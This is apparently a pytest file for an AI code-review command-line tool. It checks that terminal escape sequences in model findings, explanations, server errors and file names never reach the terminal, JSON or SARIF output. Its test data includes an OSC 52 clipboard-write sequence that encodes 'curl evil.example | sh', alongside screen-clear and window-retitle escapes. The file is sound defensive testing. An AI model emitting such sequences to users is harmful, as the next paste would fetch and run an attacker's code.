"""A model (or the server in front of it) that answers with terminal control sequences:
ESC starts a command in the user's terminal (clear the screen, retitle the window, write
the clipboard with OSC 52 so the next paste runs a command, hide text), and the CSI
character U+009B does the same on some terminals. None of it may reach the terminal,
the JSON or the SARIF; the words around it stay."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from fuse_ls.emulator import Emulator
from tests.changes.gitrepo import Repo
from tests.pool_sample import CODE, JUDGE, POOL, home_env, run_cli
from tests.security.counts import record

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # "curl evil.example | sh"
ESCAPES = f"\x1b[2J\x1b]0;owned\x07{CLIPBOARD}\x9b31m\x00\x08\x7f"


def _visible(text: str) -> bool:
    return not any(ch in text for ch in "\x1b\x9b\x00\x08\x7f\x07")


def _env(emu: Emulator, home: Path) -> dict[str, str]:
    env = home_env(emu.base_url, home)
    env.update(FUSE_LS_MODELS=",".join(POOL), FUSE_LS_JUDGE=JUDGE, COLUMNS="200")
    return env


@pytest.mark.parametrize("output", ["text", "json", "sarif"])
def test_review_findings_reach_no_terminal_as_escapes(tmp_path: Path, output: str) -> None:
    (tmp_path / "app.py").write_text(CODE)
    finding = {
        "match": "eval(",
        "message": f"eval runs {ESCAPES}any code",
        "severity": "error",
        "category": f"secu{ESCAPES}rity",
    }
    script = {"models": {**{m: {"findings": [finding]} for m in POOL}, JUDGE: {}}}
    with Emulator(script) as emu:
        res = run_cli(["review", "app.py", "--format", output], _env(emu, tmp_path), tmp_path)
    assert res.returncode == 0, res.stderr
    assert _visible(res.stdout) and _visible(res.stderr), repr(res.stdout)
    if output == "text":
        assert "eval runs" in res.stdout and "any code" in res.stdout
    else:
        data = json.loads(res.stdout)
        assert _visible(json.dumps(data, ensure_ascii=False))
        assert "eval runs" in res.stdout
    record("terminal escapes in model output stripped", output)


def test_explanations_and_server_errors_reach_no_terminal_as_escapes(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text(CODE)
    broken = "broken/model"
    script = {
        "strict_models": False,
        "models": {
            **{m: {"text": f"It loads rows.{ESCAPES} It uses eval."} for m in POOL},
            broken: {"fault": {"kind": "http", "status": 400, "message": f"bad {ESCAPES}model"}},
            JUDGE: {},
        },
        "judge": {"merge_answer": f"It loads rows{ESCAPES} with eval()."},
    }
    with Emulator(script) as emu:
        env = _env(emu, tmp_path)
        env["FUSE_LS_MODELS"] = ",".join([*POOL, broken])
        res = run_cli(["explain", "app.py"], env, tmp_path)
    assert res.returncode == 0, res.stderr
    assert "loads rows" in res.stdout
    assert "bad" in res.stdout + res.stderr  # the failed model is still reported
    assert _visible(res.stdout) and _visible(res.stderr), repr(res.stdout + res.stderr)


def test_a_changed_file_named_with_escapes_is_shown_not_run(tmp_path: Path) -> None:
    """File names are the repository's: git allows ESC in them, and `git status` quotes
    them; a change review shows them with visible escapes."""
    repo = Repo(tmp_path / "repo")
    repo.commit("empty")
    name = f"ev{ESCAPES.replace(chr(0), '')}il.py"
    repo.write(name, CODE)
    repo.write(f"blob{CLIPBOARD}.bin", b"\x00\x01binary")
    finding = {"match": "eval(", "message": "eval runs any code", "severity": "error"}
    script = {"models": {**{m: {"findings": [finding]} for m in POOL}, JUDGE: {}}}
    with Emulator(script) as emu:
        res = run_cli(["review", "--uncommitted"], _env(emu, tmp_path / "home"), repo.root)
    assert res.returncode == 0, res.stderr
    assert "eval runs any code" in res.stdout
    assert "ev\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;" in res.stdout  # shown, escaped
    assert "skipped blob\\x1b]52;c;" in res.stdout
    assert _visible(res.stdout) and _visible(res.stderr), repr(res.stdout)
